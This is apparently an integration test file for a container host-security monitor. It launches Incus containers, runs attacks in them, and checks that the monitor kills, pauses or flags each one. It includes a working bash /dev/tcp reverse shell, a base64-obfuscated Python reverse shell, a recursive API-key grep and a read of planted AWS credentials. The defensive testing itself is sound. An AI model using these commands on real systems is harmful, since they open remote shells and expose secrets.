import { execFileSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync, mkdirSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { plantCanaries } from '../../../../src/security/sources/canaries.js';
import { GATEWAY, TEST_PREFIX } from '../../../helpers/testbed.js';
import type { MonitorBed } from '../../../helpers/monitor-bed.js';
import { IO_BOOT_GRACE_MS, attackerPort, monitorBedForFile } from '../../../helpers/monitor-bed.js';

/**
 * The host monitor against attacks actually performed inside real containers: each test launches
 * a coi-named container, the in-process daemon attaches to it through Incus events, the attack
 * runs, and the test checks what Incus and the audit log say afterwards.
 */

let bed: MonitorBed;
const PORT = attackerPort();
monitorBedForFile(PORT, (b) => (bed = b));

/** The forensic copies the responder made for a workspace; deleted by the bed at the end. */
async function forensicCopies(hash: string): Promise<string[]> {
  return (await bed.incus.instances.names()).filter((n) =>
    n.startsWith(`${TEST_PREFIX}forensics-${hash}-1-`),
  );
}

describe('process attacks', () => {
  it('kills a bash reverse shell and keeps a forensic copy', async () => {
    const c = await bed.launch('bash-revshell');
    bed.fire(c.name, ['bash', '-c', `bash -i >& /dev/tcp/${GATEWAY}/${PORT} 0>&1`]);
    const record = await bed.waitForRecord(c.name, (r) => r.action === 'killed');
    expect(record.level).toBe('critical');
    expect(record.title).toBe('Reverse shell detected');
    await bed.waitForStatus(c.name, undefined);
    expect(await forensicCopies(c.hash)).toHaveLength(1);
  });

  it('kills an obfuscated python reverse shell by its stdio on a socket', async () => {
    const c = await bed.launch('py-revshell');
    // socket + dup2 + exec of a shell, base64-wrapped: no pattern word is on the command line.
    const code = Buffer.from(
      `import socket as s,os\nc=s.socket()\nc.connect(("${GATEWAY}",${PORT}))\n` +
        '[os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv("/bin/sh",["sh","-i"])\n',
    ).toString('base64');
    bed.fire(c.name, ['python3', '-c', `exec(__import__('base64').b64decode('${code}'))`]);
    const record = await bed.waitForRecord(c.name, (r) => r.action === 'killed');
    expect(record.level).toBe('critical');
    expect(record.evidence).toMatchObject({ process: { pattern: 'stdio-socket' } });
    await bed.waitForStatus(c.name, undefined);
  });

  it('warns about a recursive grep for API keys', async () => {
    const c = await bed.launch('grep-keys');
    // Not awaited: reading the whole tree may also trip the I/O volume check, which freezes it.
    bed.fire(c.name, ['sh', '-c', 'timeout 5 grep -r API_KEY / >/dev/null 2>&1']);
    // Its read of /etc/shadow is a warning of its own (sensitive file read); either may be first.
    const record = await bed.waitForRecord(c.name, (r) => r.category === 'environment');
    expect(record.level).toBe('warning');
    expect(record.action).toBe('alerted');
    expect(record.evidence).toMatchObject({ process: { pattern: 'secret-grep' } });
  });
});

describe('host-side watches', () => {
  it('pauses a container whose credential canary is read', async () => {
    const c = await bed.launch('canary');
    await plantCanaries(bed.incus, c.name, '/home/code', 1000);
    const watch = await bed.daemon.watchOf(c.name);
    await expect.poll(() => watch.canariesReady(), { timeout: 15_000 }).toHaveLength(3);
    bed.fire(c.name, ['cat', '/home/code/.aws/credentials'], 1000);
    const record = await bed.waitForRecord(c.name, (r) => r.category === 'credential_access');
    expect(record.level).toBe('high');
    expect(record.action).toBe('paused');
    expect(record.evidence).toMatchObject({
      sensitive_file: { path: '/home/code/.aws/credentials' },
    });
    await bed.waitForStatus(c.name, 'Frozen');
    const { value } = await bed.incus.instances.get(c.name);
    expect(value.config['user.coi.frozen_by']).toBe('threat');
  });

  it('pauses a container that reads 200 MB in a burst', async () => {
    const c = await bed.launch('read-burst');
    // Pushed through Incus, so only the container's read of it is the container's I/O.
    await bed.incus.files.push(c.name, '/var/tmp/big', randomBytes(200 * 1024 * 1024));
    execFileSync('sync');
    await new Promise((resolve) => setTimeout(resolve, IO_BOOT_GRACE_MS));
    bed.fire(c.name, [
      'dd',
      'if=/var/tmp/big',
      'of=/dev/null',
      'bs=1M',
      'iflag=direct',
      'status=none',
    ]);
    const record = await bed.waitForRecord(c.name, (r) => r.category === 'filesystem');
    expect(record.level).toBe('high');
    expect(record.title).toBe('Large workspace read detected');
    await bed.waitForStatus(c.name, 'Frozen');
  });
});

describe('benign developer work', () => {
  let debDir: string;
  beforeAll(() => {
    debDir = mkdtempSync(join(tmpdir(), 'coi-deb-'));
    const root = join(debDir, 'pkg');
    mkdirSync(join(root, 'DEBIAN'), { recursive: true });
    mkdirSync(join(root, 'usr/share/coi-hello'), { recursive: true });
    writeFileSync(
      join(root, 'DEBIAN/control'),
      'Package: coi-hello\nVersion: 1.0\nArchitecture: all\nMaintainer: coi <coi@example.invalid>\nDescription: test package\n',
    );
    writeFileSync(join(root, 'usr/share/coi-hello/hello.txt'), 'hello\n');
    execFileSync('dpkg-deb', ['--build', '--root-owner-group', root, join(debDir, 'hello.deb')], {
      stdio: 'ignore',
    });
  });
  afterAll(() => rmSync(debDir, { recursive: true, force: true }));

  it('raises nothing above info for clone, make, tests and a package install', async () => {
    const c = await bed.launch('benign');
    await plantCanaries(bed.incus, c.name, '/home/code', 1000);
    await bed.incus.files.push(c.name, '/root/hello.deb', readFileSync(join(debDir, 'hello.deb')));
    const script = [
      'set -e',
      'cd /home/code && rm -rf src clone && mkdir src && cd src',
      'git init -q && git config user.email dev@example.invalid && git config user.name dev',
      "printf 'def add(a, b):\\n    return a + b\\n' > app.py",
      "printf 'import unittest, app\\nclass T(unittest.TestCase):\\n    def test_add(self):\\n        self.assertEqual(app.add(2, 3), 5)\\n' > test_app.py",
      "printf 'build/app.pyc: app.py\\n\\tmkdir -p build && python3 -m py_compile app.py && cp __pycache__/app.*.pyc build/app.pyc\\ntest: build/app.pyc\\n\\tpython3 -m unittest -q test_app\\n' > Makefile",
      'git add -A && git commit -qm init',
      'cd .. && git clone -q src clone && cd clone && make -s && make -s test && git log --oneline | wc -l',
      'ls -la ~ >/dev/null && env | wc -l >/dev/null && curl -s -o /dev/null http://localhost:1/ || true',
    ].join('\n');
    const work = await bed.incus.exec.run(c.name, ['bash', '-c', script], {
      user: 1000,
      group: 1000,
    });
    expect(work.exitCode, work.stderr.toString()).toBe(0);
    const install = await bed.incus.exec.run(c.name, ['dpkg', '-i', '/root/hello.deb']);
    expect(install.exitCode, install.stderr.toString()).toBe(0);
    // Give the I/O sampler and the scanner's slow re-checks a full round.
    await new Promise((resolve) => setTimeout(resolve, 5000));
    const loud = (await bed.records(c.name)).filter((r) => r.level !== 'info');
    expect(loud.map((r) => `${r.level} ${r.title}: ${r.description}`)).toEqual([]);
    expect(await bed.status(c.name)).toBe('Running');
  });
});
